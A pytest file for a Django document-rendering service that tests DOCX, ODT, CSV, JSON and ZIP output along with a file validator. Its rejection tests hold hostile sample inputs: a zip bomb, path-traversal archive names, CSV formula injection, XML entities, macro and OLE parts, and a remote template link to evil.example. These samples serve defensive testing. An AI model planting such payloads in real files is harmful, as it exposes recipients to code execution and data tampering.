"""Each format: made from its source, the same bytes for the same source, checked before it is stored."""

import io
import json
import zipfile
from datetime import timedelta

import docx
import pytest
from lxml import etree

from campaign.documents.archives import ArchiveBroken, read_archive, write_archive
from campaign.documents.builders import BundleSource, DocumentSource, TextSource, WordSource, register_builder
from campaign.documents.checking import check_file
from campaign.documents.children import RenderFailed
from campaign.documents.formats import CSV, DOCX, FORMATS, JSON, MARKDOWN, ODT, PDF, TEXT, ZIP
from campaign.documents.making import WrongFormat, make_file
from campaign.documents.models import Document
from campaign.documents.reasons import Reason
from campaign.documents.services import render_document, request_document
from campaign.documents.word import run_word_maker
from tests.factories.documents import MOMENT, DocumentFactory, FrozenTextFactory

pytestmark = [pytest.mark.django_db, pytest.mark.sqlite]

State = Document.State
NOTED = (
    '<h1>Part</h1><h2>Question 1</h2><p>Said<a role="doc-noteref" href="#n1">1</a>.</p><ul><li>a point</li></ul>'
    "<table><thead><tr><th>Country</th><th>Number</th></tr></thead><tbody><tr><td>France</td><td>6</td></tr></tbody></table>"
    '<section role="doc-endnotes"><ol><li id="n1" role="doc-endnote"><p>A source.</p></li></ol></section>'
)


def page(body, *, lang="en", rtl=False):
    direction = "rtl" if rtl else "ltr"
    return f'<!doctype html><html lang="{lang}" dir="{direction}"><head><title>A title</title></head><body>{body}</body></html>'


def word(body, *, media_type=DOCX, locale="en", rtl=False):
    html = page(body, lang=locale, rtl=rtl)
    return run_word_maker(html=html, media_type=media_type, locale=locale, moment=MOMENT)


def part(archive, name):
    return etree.fromstring(read_archive(archive)[name])


def texts(tree, tag):
    return ["".join(found.itertext()).strip() for found in tree.iter(f"{{*}}{tag}")]


def register(kind, source, media_type):
    register_builder(kind, lambda *_: source, media_type=media_type)


# --- Word processors --------------------------------------------------------------


def test_docx_has_real_headings_lists_header_rows_and_footnotes():
    made = word(NOTED)

    document = docx.Document(io.BytesIO(made))
    styles = [paragraph.style.name for paragraph in document.paragraphs]
    assert [style for style in styles if style.startswith(("Title", "Heading"))] == [
        "Title",
        "Heading 1",
        "Heading 2",
    ]
    assert texts(part(made, "word/footnotes.xml"), "footnote")[-1].strip() == "A source."
    assert len(list(part(made, "word/document.xml").iter("{*}tblHeader"))) == 1
    assert len(list(part(made, "word/document.xml").iter("{*}numPr"))) == 1
    assert [cell.text for cell in document.tables[0].rows[1].cells] == ["France", "6"]


def test_docx_has_the_page_numbers_and_the_language():
    made = word("<p>a</p>", locale="pt-br")

    fields = texts(part(made, "word/footer1.xml"), "instrText")
    language = next(part(made, "word/styles.xml").iter("{*}lang"))
    assert [field.strip() for field in fields] == ["PAGE", "NUMPAGES"]
    assert list(language.attrib.values()) == ["pt-BR"] * 3


def test_docx_read_from_the_right_turns_paragraphs_tables_and_pages():
    made = word(NOTED, locale="ar", rtl=True)

    tree = part(made, "word/document.xml")
    paragraphs = list(tree.iter("{*}p"))
    assert all(paragraph.find("{*}pPr/{*}bidi") is not None for paragraph in paragraphs)
    assert len(list(tree.iter("{*}bidiVisual"))) == 1
    assert tree.find(".//{*}sectPr/{*}bidi") is not None


def test_odt_has_real_headings_lists_header_rows_and_footnotes():
    made = word(NOTED, media_type=ODT)

    content = part(made, "content.xml")
    levels = [
        heading.get(next(iter(k for k in heading.attrib if k.endswith("outline-level"))))
        for heading in content.iter("{*}h")
    ]
    assert levels == ["1", "2"]
    assert texts(content, "note-body") == ["A source."]
    assert [texts(row, "table-cell") for row in content.iter("{*}table-header-rows")] == [
        ["Country", "Number"]
    ]
    assert texts(content, "list-item") == ["a point"]
    assert next(iter(read_archive(made))) == "mimetype"


def test_odt_read_from_the_right_turns_pages_and_paragraphs():
    styles = part(word("<p>a</p>", media_type=ODT, locale="he", rtl=True), "styles.xml")

    modes = {
        value
        for node in styles.iter()
        for name, value in node.attrib.items()
        if name.endswith("writing-mode")
    }
    languages = {
        value
        for node in styles.iter("{*}text-properties")
        for name, value in node.attrib.items()
        if name.endswith("}language")
    }
    assert (modes, languages) == ({"rl-tb"}, {"he"})


@pytest.mark.parametrize("media_type", [DOCX, ODT])
def test_word_of_the_same_source_is_the_same_bytes(media_type):
    assert word(NOTED, media_type=media_type) == word(NOTED, media_type=media_type)


def test_word_of_another_moment_is_other_bytes():
    later = run_word_maker(
        html=page("<p>a</p>"), media_type=DOCX, locale="en", moment=MOMENT + timedelta(days=1)
    )

    assert later != word("<p>a</p>")


@pytest.mark.parametrize("media_type", [DOCX, ODT])
def test_word_passes_the_check(media_type):
    check_file(media_type=media_type, content=word(NOTED, media_type=media_type))


# --- Archives -----------------------------------------------------------------------


def test_archive_is_the_same_bytes_and_reads_back_in_its_order():
    parts = {"b.txt": b"b" * 1000, "a.txt": b"a"}

    assert write_archive(parts) == write_archive(parts)
    assert list(read_archive(write_archive(parts)).items()) == list(parts.items())


def test_archive_that_unpacks_to_too_much_is_refused(monkeypatch):
    monkeypatch.setattr("campaign.documents.archives.MAX_BYTES", 1000)

    with pytest.raises(ArchiveBroken):
        read_archive(write_archive({"bomb": b"\0" * 100_000}))


def test_archive_that_is_none_is_refused():
    with pytest.raises(ArchiveBroken):
        read_archive(b"PK\x03\x04 nonsense")


# --- Making and checking --------------------------------------------------------------


@pytest.mark.parametrize(
    ("media_type", "text"), [(MARKDOWN, "# A"), (TEXT, "a"), (JSON, '{"a": 1}'), (CSV, "a,b\r\n1,2\r\n")]
)
def test_text_is_stored_as_it_is_under_its_own_ending(media_type, text):
    register("tests.document", TextSource(text=text, file_name="a file"), media_type)
    document = DocumentFactory(media_type=media_type)

    render_document(document_id=str(document.pk), at=MOMENT)

    document.refresh_from_db()
    assert document.state == State.READY
    assert document.file.read() == text.encode()
    assert (document.file_name, document.page_count) == (f"a_file{FORMATS[media_type].suffix}", None)


def test_request_document_knows_the_format_before_it_is_made():
    register("tests.document", TextSource(text="a", file_name="a"), MARKDOWN)

    document = request_document(
        kind="tests.document", frozen_text=FrozenTextFactory(), locale="en", at=MOMENT
    )

    assert (document.media_type, document.format_name) == (MARKDOWN, "Markdown")


def test_register_builder_refuses_an_unknown_format():
    with pytest.raises(KeyError):
        register("tests.document", TextSource(text="a", file_name="a"), "text/html")


@pytest.mark.parametrize(
    ("source", "media_type"),
    [
        (TextSource(text="a", file_name="a"), PDF),
        (DocumentSource(html="", title="", locale="en", file_name=""), DOCX),
        (WordSource(html="", title="", locale="en", file_name=""), ZIP),
        (BundleSource(kinds=(), file_name=""), TEXT),
    ],
)
def test_make_file_of_another_format_than_registered_is_a_fault_of_ours(source, media_type):
    with pytest.raises(WrongFormat):
        make_file(source=source, media_type=media_type, frozen_text=FrozenTextFactory(), locale="en")


@pytest.mark.parametrize(
    ("media_type", "content"),
    [
        (PDF, b"%PDF-1.7 cut off"),
        (PDF, b"<html>%%EOF"),
        (DOCX, b"PK"),
        (ODT, write_archive({"content.xml": b"<a/>"})),
        (TEXT, b"\xff\xfe"),
        (TEXT, b""),
        (TEXT, b"a\0"),
        (JSON, b"{"),
        (JSON, b"[" * 100_000),
        (CSV, b"a,b\r\n=1+1,2\r\n"),
        (CSV, "a\r\n＝1\r\n".encode()),
        (CSV, b"a,b\r\n1\r\n"),
        (ZIP, write_archive({"../up.txt": b"a"})),
        (ZIP, write_archive({"in\\side.txt": b"a"})),
        (ZIP, write_archive({".hidden": b"a"})),
    ],
)
def test_check_file_that_is_not_what_it_promises_is_refused(media_type, content):
    with pytest.raises(RenderFailed) as failure:
        check_file(media_type=media_type, content=content)

    assert failure.value.reason == Reason.FAULTY


@pytest.mark.parametrize(
    "change",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'},
        {"word/document.xml": b"<a>"},
        {
            "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
            b"</Relationships>"
        },
    ],
)
def test_check_file_of_word_that_would_do_something_by_itself_is_refused(change):
    parts = {**read_archive(word("<p>a</p>")), **change}

    with pytest.raises(RenderFailed):
        check_file(media_type=DOCX, content=write_archive(parts))


def test_render_document_that_fails_its_check_is_not_stored():
    register("tests.document", TextSource(text="a,b\r\n=1,2\r\n", file_name="a"), CSV)
    document = DocumentFactory(media_type=CSV)

    render_document(document_id=str(document.pk), at=MOMENT)

    document.refresh_from_db()
    assert (document.state, document.reason, document.file.name) == (State.FAILED, Reason.FAULTY, "")


# --- Bundles ------------------------------------------------------------------------


@pytest.fixture
def bundle():
    """Three documents of one text: two of the same name that are ready, one that failed; and an order of all of them."""
    text = FrozenTextFactory()
    for kind, words in (("tests.a", "one"), ("tests.b", "two"), ("tests.c", "three")):
        register(kind, TextSource(text=words, file_name="words"), TEXT)
    register("tests.zip", BundleSource(kinds=("tests.a", "tests.b", "tests.c"), file_name="all"), ZIP)
    for kind in ("tests.a", "tests.b"):
        made(text, kind)
    DocumentFactory(kind="tests.c", frozen_text=text, media_type=TEXT, state=State.FAILED)
    return request_document(kind="tests.zip", frozen_text=text, locale="en", at=MOMENT)


def made(text, kind):
    row = request_document(kind=kind, frozen_text=text, locale="en", at=MOMENT)
    render_document(document_id=str(row.pk), at=MOMENT)
    row.refresh_from_db()
    return row


def test_bundle_holds_what_is_ready_and_a_list_of_digests(bundle):
    render_document(document_id=str(bundle.pk), at=MOMENT)

    bundle.refresh_from_db()
    parts = read_archive(bundle.file.read())
    digests = (
        Document.objects.filter(kind__in=["tests.a", "tests.b"])
        .order_by("kind")
        .values_list("file_digest", flat=True)
    )
    assert {name: parts[name] for name in list(parts)[:2]} == {"words.txt": b"one", "words-2.txt": b"two"}
    assert parts["SHA256SUMS.txt"].decode() == f"{digests[0]}  words.txt\n{digests[1]}  words-2.txt\n"
    with zipfile.ZipFile(bundle.file.open("rb")) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_bundle_waits_for_what_is_being_made_and_loses_no_attempt(bundle):
    Document.objects.filter(kind="tests.c").update(state=State.RENDERING)

    render_document(document_id=str(bundle.pk), at=MOMENT + timedelta(minutes=1))

    bundle.refresh_from_db()
    assert (bundle.state, bundle.attempts, bundle.claimed_at) == (State.REQUESTED, 0, None)
    assert bundle.requested_at > MOMENT


def test_bundle_is_told_when_a_part_is_ready(bundle, django_capture_on_commit_callbacks):
    row = request_document(kind="tests.c", frozen_text=bundle.frozen_text, locale="en", at=MOMENT)

    with django_capture_on_commit_callbacks() as nudges:
        render_document(document_id=str(row.pk), at=MOMENT)

    assert [nudge.args[1] for nudge in nudges] == [{"document_id": str(bundle.pk)}]


def test_bundle_of_nothing_fails_with_a_reason(bundle):
    Document.objects.exclude(pk=bundle.pk).update(state=State.FAILED)

    render_document(document_id=str(bundle.pk), at=MOMENT)

    bundle.refresh_from_db()
    assert (bundle.state, bundle.reason) == (State.FAILED, Reason.NOTHING_READY)


def test_bundle_ordered_again_is_kept_until_there_is_more_to_put_into_it(bundle):
    render_document(document_id=str(bundle.pk), at=MOMENT)
    order = {"kind": "tests.zip", "frozen_text": bundle.frozen_text, "locale": "en", "at": MOMENT}
    same = request_document(**order).state
    made(bundle.frozen_text, "tests.c")

    again = request_document(**order)
    render_document(document_id=str(again.pk), at=MOMENT + timedelta(minutes=1))

    again.refresh_from_db()
    assert (same, again.state, again.file_name) == (State.READY, State.READY, "all.zip")
    assert list(read_archive(again.file.read())) == [
        "words.txt",
        "words-2.txt",
        "words-3.txt",
        "SHA256SUMS.txt",
    ]


def test_bundle_with_a_damaged_part_fails(bundle):
    Document.objects.filter(kind="tests.a").update(file_digest="0" * 64)

    render_document(document_id=str(bundle.pk), at=MOMENT)

    bundle.refresh_from_db()
    assert (bundle.state, bundle.reason) == (State.FAILED, Reason.FAULTY)


def test_json_of_a_document_is_read_back():
    content = json.dumps({"a": "ž"}, ensure_ascii=False)
    register("tests.document", TextSource(text=content, file_name="a"), JSON)

    row = made(FrozenTextFactory(), "tests.document")

    assert json.loads(row.file.read()) == {"a": "ž"}
